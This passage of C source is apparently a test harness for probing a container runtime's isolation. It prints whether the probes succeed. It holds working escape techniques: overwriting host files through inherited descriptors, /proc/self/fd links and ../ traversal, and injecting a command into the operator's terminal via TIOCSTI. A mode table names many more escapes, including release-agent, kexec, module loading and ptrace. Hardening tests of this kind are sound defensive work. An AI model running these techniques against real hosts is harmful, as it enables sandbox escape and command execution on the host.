 * directory. */
static int mode_fds_escape(int argc, char **argv) {
        (void) argc;
        char what[128];

        for (int fd = 0; fd < 1024; fd++) {
                struct stat st;
                if (fstat(fd, &st) < 0)
                        continue;
                printf("fds-escape holds fd %d (mode %o)\n", fd, st.st_mode & S_IFMT);
                snprintf(what, sizeof(what), "/proc/self/fd/%d", fd);
                int dfd = open(what, O_PATH | O_DIRECTORY | O_CLOEXEC);
                for (int via = 0; via < 2; via++) {
                        int dir = via == 0 ? fd : dfd;
                        if (dir < 0 || (via == 0 && !S_ISDIR(st.st_mode)))
                                continue;
                        snprintf(what, sizeof(what), "%s %d create", via ? "/proc/self/fd" : "fd", fd);
                        int c = openat(dir, argv[1], O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
                        if (step("fds-escape", what, c) == 0)
                                close(c);
                        snprintf(what, sizeof(what), "%s %d canary", via ? "/proc/self/fd" : "fd", fd);
                        c = openat(dir, argv[2], O_WRONLY | O_TRUNC | O_CLOEXEC);
                        if (step("fds-escape", what, c) == 0) {
                                (void) write_all(c, "overwritten by the container\n");
                                close(c);
                        }
                }
                if (dfd >= 0)
                        close(dfd);
                /* a host file handed in to read (stdin < FILE) reopened through its magic link to write */
                if (S_ISREG(st.st_mode) || S_ISBLK(st.st_mode)) {
                        snprintf(what, sizeof(what), "/proc/self/fd/%d", fd);
                        int c = open(what, O_WRONLY | O_TRUNC | O_CLOEXEC);
                        snprintf(what, sizeof(what), "/proc/self/fd %d reopened to write", fd);
                        if (step("fds-escape", what, c) == 0) {
                                (void) write_all(c, "overwritten by the container\n");
                                close(c);
                        }
                }
        }

        char cwd[4096];
        printf("fds-escape cwd %s\n", getcwd(cwd, sizeof(cwd)) ? cwd : "(unreachable)");
        for (int up = 0; up <= 16; up++) {
                char path[4096] = "";
                for (int i = 0; i < up; i++)
                        strcat(path, "../");
                size_t len = strlen(path);
                snprintf(path + len, sizeof(path) - len, "%s", argv[1]);
                /* a new file only where it landed: above that, on a host, it would litter the host's tree */
                int c = up == 0 ? open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644) : -1;
                if (c >= 0) {
                        (void) step("fds-escape", "cwd create", c);
                        close(c);
                }
                snprintf(path + len, sizeof(path) - len, "%s", argv[2]);
                c = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
                if (c >= 0) {
                        snprintf(what, sizeof(what), "cwd up %d canary", up);
                        (void) step("fds-escape", what, c);
                        (void) write_all(c, "overwritten by the container\n");
                        close(c);
                }
        }
        return 0;
}

/* tiocsti TEXT: types TEXT and a newline into the terminal on each of its stdio descriptors and into its
 * controlling terminal (/dev/tty) with ioctl(TIOCSTI): whoever reads that terminal next (the operator's
 * shell, after ctrctl exec returns) runs it. */
static int mode_tiocsti(int argc, char **argv) {
        (void) argc;
        int tty = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
        step("tiocsti", "open /dev/tty", tty);
        for (int i = 0; i < 4; i++) {
                int fd = i < 3 ? i : tty;
                char what[32];

                if (fd < 0 || !isatty(fd))
                        continue;
                snprintf(what, sizeof(what), "TIOCSTI on %s", i < 3 ? (const char *[]) { "stdin", "stdout", "stderr" }[i] : "/dev/tty");
                long r = 0;
                for (const char *c = argv[1]; *c && r == 0; c++)
                        r = ioctl(fd, TIOCSTI, c);
                if (r == 0)
                        r = ioctl(fd, TIOCSTI, "\n");
                if (step("tiocsti", what, r) == 0)
                        break;  /* once is enough: the line is in the terminal's input now */
        }
        if (tty >= 0)
                close(tty);
        printf("tiocsti done\n");
        return 0;
}

/* ---- the table */

static const struct mode {
        const char *name;
        int min_args;
        int (*run)(int argc, char **argv);
        const char *usage;
} modes[] = {
        { "abstract",      2, mode_abstract,      "NAME MESSAGE" },
        { "bind",          2, mode_bind,          "SRC TARGET" },
        { "bpf",           0, mode_bpf,           "" },
        { "clock",         1, mode_clock,         "ESTERROR" },
        { "clock-show",    0, mode_clock_show,    "" },
        { "clone",         0, mode_clone,         "" },
        { "clone3",        0, mode_clone3,        "" },
        { "create",        2, mode_create,        "PATH DATA" },
        { "exec-catch",    1, mode_exec_catch,    "DONE" },
        { "fds-escape",    2, mode_fds_escape,    "NAME CANARY" },
        { "fsopen",        2, mode_fsopen,        "FSTYPE TARGET" },
        { "handle",        5, mode_handle,        "MOUNTPATH INO GEN RELPATH DATA" },
        { "idle",          0, mode_idle,          "" },
        { "io_uring",      0, mode_io_uring,      "" },
        { "kexec",         1, mode_kexec,         "KERNEL" },
        { "kexec-unload",  0, mode_kexec_unload,  "" },
        { "keys",          1, mode_keys,          "DESCRIPTION" },
        { "kill",          1, mode_kill,          "PID [SIG]" },
        { "mknod-read",    5, mode_mknod_read,    "PATH MAJOR MINOR OFFSET LEN" },
        { "modules",       2, mode_modules,       "FILE NAME" },
        { "mount",         3, mode_mount,         "SRC TARGET FSTYPE [DATA]" },
        { "nested-userns", 3, mode_nested_userns, "MAP PATH DATA" },
        { "open-tree",     2, mode_open_tree,     "SRC TARGET" },
        { "perf",          0, mode_perf,          "" },
        { "pivot-root",    2, mode_pivot_root,    "NEW PUT_OLD" },
        { "proc-roots",    2, mode_proc_roots,    "PATH DATA" },
        { "ptrace",        1, mode_ptrace,        "PID" },
        { "read",          1, mode_read,          "PATH [OFFSET [LEN]]" },
        { "release-agent", 3, mode_release_agent, "DIR AGENT NAME" },
        { "remount-rw",    1, mode_remount_rw,    "TARGET" },
        { "swap-loop",     3, mode_swap_loop,     "SECONDS A B [A B…]" },
        { "tiocsti",       1, mode_tiocsti,       "TEXT" },
        { "tty-info",      0, mode_tty_info,      "" },
        { "uid-map",       1, mode_uid_map,       "MAP" },
        { "umount",        1, mode_umount,        "TARGET" },
        { "unshare",       0, mode_unshare,       "" },
        { "userfaultfd",   0, mode_userfaultfd,   "" },
        { "write",         2, mode_write,         "PATH DATA" },
};

static int usage(void) {
        fprintf(stderr, "usage: attack [hold] MODE [ARG…]\n");
        for (size_t i = 0; i < sizeof(modes) / sizeof(modes[0]); i++)
                fprintf(stderr, "  %s %s\n", modes[i].name, modes[i].usage);
        return 2;
}

int main(int argc, char **argv) {
        bool hold = false;

        if (argc > 1 && strcmp(argv[1], "hold") == 0) {
                hold = true;
                argc--, argv++;
        }
        if (argc < 2)
                return usage();
        /* as a container's PID 1, only a handled signal reaches it: the container stops on SIGTERM */
        sigaction(SIGTERM, &(struct sigaction) { .sa_handler = on_term }, NULL);
        sigaction(SIGINT, &(struct sigaction) { .sa_handler = on_term }, NULL);
        for (size_t i = 0; i < sizeof(modes) / sizeof(modes[0]); i++) {
                if (strcmp(argv[1], modes[i].name) != 0)
                        continue;
                if (argc - 2 < modes[i].min_args)
                        return usage();
                modes[i].run(argc - 1, argv + 1);
                printf("%s: %s\n", modes[i].name, escaped ? "ESCAPED" : "all refused");
                if (hold) {
                        printf("holding\n");
                        fflush(stdout);
                        while (!stopping)
                                pause();
                }
                /* without "hold", a child that got somewhere does not outlive the attack */
                for (size_t c = 0; c < n_children; c++) {
                        kill(children[c], SIGKILL);
                        waitpid(children[c], NULL, 0);
                }
                return escaped ? 1 : 0;
        }
        fprintf(stderr, "attack: unknown mode '%s'\n", argv[1]);
        return usage();
}
